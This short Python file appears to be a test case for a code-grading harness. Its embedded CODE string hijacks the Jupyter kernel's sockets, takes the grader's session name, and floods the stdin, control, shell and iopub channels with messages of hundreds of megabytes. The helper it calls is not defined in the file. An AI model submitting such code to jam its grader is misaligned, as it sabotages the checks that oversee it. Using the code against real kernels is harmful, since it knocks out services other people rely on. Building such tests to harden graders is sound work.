"""Send the grader one message that never ends, by every socket."""

CODE = r"""
import time, zmq
from ipykernel.kernelapp import IPKernelApp
app = IPKernelApp.instance()
who = get_ipython().kernel.get_parent()["header"]
peers = [b"", app.session.session.encode()]
part = b"x" * 4_000_000

def flood(socket, *first):
    socket = getattr(socket, "socket", socket)
    socket.setsockopt(zmq.SNDTIMEO, 500)
    socket.setsockopt(zmq.ROUTER_MANDATORY, 1) if socket.type == zmq.ROUTER else None
    began = time.monotonic()
    sent = 0
    for number in range(30):
        socket.send_multipart([*first, *[part] * 100], copy=False)  # each part is the same memory
        sent += 400
    return f"sent {sent} MB in {time.monotonic() - began:.1f} s"

client = who["session"].encode()  # the name by which the grader's sockets are known
for name in ("stdin_socket", "control_socket", "shell_socket", "iopub_socket"):
    attempt(name, lambda: flood(getattr(app, name), *([client] if name != "iopub_socket" else [b"x"])))
time.sleep(2)
"""

STATES = ("flagged", "graded")
